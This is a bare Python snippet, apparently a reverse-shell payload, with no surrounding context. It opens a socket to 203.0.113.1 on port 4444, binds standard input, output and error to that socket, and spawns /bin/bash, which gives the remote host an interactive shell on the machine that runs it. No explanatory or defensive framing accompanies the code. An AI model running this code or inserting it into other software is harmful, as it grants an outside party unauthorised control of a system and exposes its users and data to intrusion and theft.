import socket, os, pty
def go():
    s = socket.create_connection(("203.0.113.1", 4444))
    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
    pty.spawn("/bin/bash")
